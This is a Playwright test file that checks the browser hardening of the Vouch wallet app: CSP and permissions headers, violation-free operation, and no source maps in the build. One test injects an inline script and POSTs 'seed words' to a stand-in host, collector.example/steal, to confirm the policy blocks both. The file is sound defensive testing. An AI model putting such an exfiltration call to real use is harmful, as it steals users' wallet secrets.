/**
 * Browser hardening (issue 8, item 2), against the production build as `npm start` serves it:
 * every role page comes with a strict Content-Security-Policy (header and meta tag), no referrer,
 * the camera for the page only; the app works under that policy without a single violation; the
 * policy stops what it is there to stop; and the build ships no source maps.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { DeskPage } from './pages/desk-page.ts';
import { VerifierPage } from './pages/verifier-page.ts';
import { WalletPage } from './pages/wallet-page.ts';
import { connectByText, receiveOfferText, SEPTEMBER_STATEMENT } from './support/flows.ts';
import { test } from './support/seed.ts';

const ROLE_PAGES = [
  { path: '/', heading: 'Welcome to Vouch' },
  { path: '/issuer', heading: 'Set up the issuer desk' },
  { path: '/verifier', heading: 'Set up the verifier desk' },
] as const;

/** Parse a policy into directive → values. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name = '', ...values]) => [name, values]),
  );
}

/** Record every CSP violation and console error from the first script on. */
async function watchForViolations(page: Page): Promise<() => Promise<string[]>> {
  const errors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(`console: ${message.text()}`);
  });
  page.on('pageerror', (error) => errors.push(`pageerror: ${error.message}`));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'}`);
    });
  });
  return async () => [
    ...errors,
    ...(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)),
  ];
}

test.describe('browser hardening', () => {
  for (const { path, heading } of ROLE_PAGES) {
    test(`Given ${path}, when it is served, then it carries the CSP, referrer and permissions headers and the same policy in a meta tag`, async ({
      page,
    }) => {
      const response = await page.goto(path);
      expect(response?.status()).toBe(200);
      const headers = response?.headers() ?? {};

      const csp = directives(headers['content-security-policy'] ?? '');
      expect(csp.get('default-src')).toEqual(["'none'"]);
      expect(csp.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
      expect(csp.get('object-src')).toEqual(["'none'"]);
      expect(csp.get('base-uri')).toEqual(["'none'"]);
      expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
      expect(csp.get('connect-src')?.[0]).toBe("'self'");
      expect(csp.get('connect-src')).not.toContain('https:');
      expect(csp.get('connect-src')).not.toContain('*');
      expect(headers['referrer-policy']).toBe('no-referrer');
      expect(headers['permissions-policy']?.split(/,\s*/)).toEqual(
        expect.arrayContaining(['camera=(self)', 'microphone=()', 'geolocation=()']),
      );

      const meta = directives(
        (await page
          .locator('meta[http-equiv="Content-Security-Policy"]')
          .getAttribute('content')) ?? '',
      );
      const headerLessFraming = new Map(csp);
      headerLessFraming.delete('frame-ancestors');
      expect(meta).toEqual(headerLessFraming);
      await expect(page.locator('meta[name="referrer"]')).toHaveAttribute('content', 'no-referrer');

      await expect(
        page.getByRole('heading', { level: 1, name: heading, exact: true }),
      ).toBeVisible();
    });
  }

  test('Given each role page under its policy, when it opens, a wallet is created and the verifier draws a request QR code, then no policy violation or console error occurs', async ({
    page,
  }) => {
    const problems = await watchForViolations(page);
    for (const { path, heading } of ROLE_PAGES) {
      await page.goto(path);
      await expect(
        page.getByRole('heading', { level: 1, name: heading, exact: true }),
      ).toBeVisible();
    }
    const wallet = await new WalletPage(page).open();
    await wallet.create();
    await wallet.expectHome();
    const verifier = await new VerifierPage(page).open();
    await verifier.setUp('Gemeente Utrecht');
    await verifier.chooseTemplate('diploma-job');
    const request = await verifier.showRequest();
    await expect(request.code).toBeVisible();
    expect(await problems()).toEqual([]);
  });

  test('Given the wallet page, when a script tries to run injected inline code or to send data to an origin nobody allowed, then the policy stops both', async ({
    page,
  }) => {
    await page.goto('/');
    await expect(page.getByRole('heading', { level: 1, name: 'Welcome to Vouch' })).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.head.append(script);
      let exfiltrated = true;
      try {
        await fetch('https://collector.example/steal', { method: 'POST', body: 'seed words' });
      } catch {
        exfiltrated = false;
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {
        injectedRan: (window as unknown as { __injected?: boolean }).__injected === true,
        exfiltrated,
        violations,
      };
    });
    expect(outcome.injectedRan).toBe(false);
    expect(outcome.exfiltrated).toBe(false);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
  });

  test('Given a credential whose status list lives on an origin the operator did not allow, when the citizen taps Check now, then nothing is fetched and the wallet says to open the list as a file', async ({
    browser,
  }) => {
    test.setTimeout(240_000);
    const elsewhere = 'https://lists.elsewhere.example';
    const walletContext = await browser.newContext();
    const deskContext = await browser.newContext();
    let requests = 0;
    await walletContext.route(`${elsewhere}/**`, (route) => {
      requests += 1;
      return route.fulfill({ status: 200, body: 'not a list' });
    });
    try {
      const wallet = new WalletPage(await walletContext.newPage());
      await wallet.open();
      await wallet.create();
      const desk = new DeskPage(await deskContext.newPage());
      await desk.open();
      await desk.page.getByLabel('Status list address').fill(`${elsewhere}/vouch/acme.jwt`);
      await desk.setUp({ name: 'Acme Rides BV', registration: 'KvK 12345678' });
      await connectByText(wallet, desk, 'Acme Rides', 'Sam de Vries');
      await desk.issueIncomeStatement(SEPTEMBER_STATEMENT);
      await receiveOfferText(wallet, desk);

      await wallet.page.getByRole('button', { name: /Income statement.*Acme Rides/ }).click();
      await wallet.page.getByRole('button', { name: 'Check now' }).click();
      await expect(
        wallet.page.getByText('This wallet may not contact the status list’s address'),
      ).toBeVisible();
      expect(requests).toBe(0);
    } finally {
      await walletContext.close();
      await deskContext.close();
    }
  });

  test('Given deep links below a desk, when they are opened, then the desk opens, not the wallet', async ({
    page,
  }) => {
    await page.goto('/verifier/');
    await expect(
      page.getByRole('heading', { level: 1, name: 'Set up the verifier desk', exact: true }),
    ).toBeVisible();
    await page.goto('/issuer/batches');
    await expect(
      page.getByRole('heading', { level: 1, name: 'Set up the issuer desk', exact: true }),
    ).toBeVisible();
  });

  test('Given the production build, then it holds no source maps and no file points to one', () => {
    const dist = join(process.cwd(), 'dist');
    const files = (readdirSync(dist, { recursive: true }) as string[]).map(String);
    expect(files).toContain('index.html');
    expect(files.filter((file) => file.endsWith('.map'))).toEqual([]);
    const scripts = files.filter((file) => file.endsWith('.js') || file.endsWith('.css'));
    expect(scripts.length).toBeGreaterThan(3);
    for (const file of scripts) {
      expect(readFileSync(join(dist, file), 'utf8'), file).not.toContain('sourceMappingURL');
    }
  });
});
